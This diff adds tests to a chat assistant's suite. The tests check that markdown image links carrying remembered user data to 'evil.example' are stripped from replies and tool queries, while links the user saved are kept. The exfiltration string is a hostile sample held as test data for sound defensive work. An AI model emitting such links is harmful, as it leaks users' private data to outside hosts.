@@ -207,3 +207,31 @@ it('is not assumed where there is none: tasks, memories and links are as the mod
   expect(assistantMessage.content).toContain('![](https://evil.example/?q=Rex)');
   expect(await marks(conversationId)).toEqual([false, false]);
 });
+
+const stolen = '![](https://evil.example/?q=Rex)';
+
+it.each([
+  ['What do bees make?', 'The reply was nothing but links'],
+  ['Was machen die Bienen mit dem Nektar?', 'Die Antwort bestand nur aus Links'],
+  ['Che cosa fanno le api con il nettare?', 'La risposta conteneva soltanto link'],
+])('leaves a sentence where it made the whole reply a link: %s', async (message, sentence) => {
+  const { id } = await twoTurns();
+  model.script({ say: stolen });
+  expect((await send(message, id)).assistantMessage.content).toContain(sentence);
+});
+
+it('leads nowhere by what a tool is said to have done', async () => {
+  const query = `bees ${stolen} www.evil.example/Rex`;
+  model.script({ call: [{ tool: 'web_search', input: { query } }] }, { say: stolen });
+  const { assistantMessage } = await send('What do bees make?');
+  expect(assistantMessage.content).toBe('Done:\n\n- Web search: “bees  evil.example');
+});
+
+it('leaves the links that the person has had remembered', async () => {
+  await saveMemory(deps, ada.id, { content: 'My page is https://rex.example/dog', conversationId: ada.id });
+  const { id } = await twoTurns();
+  model.script({ say: 'See [yours](https://rex.example/dog), [other](https://rex.example/dogs).' });
+  expect((await send('Where is my page?', id)).assistantMessage.content).toBe(
+    'See [yours](https://rex.example/dog), other.',
+  );
+});
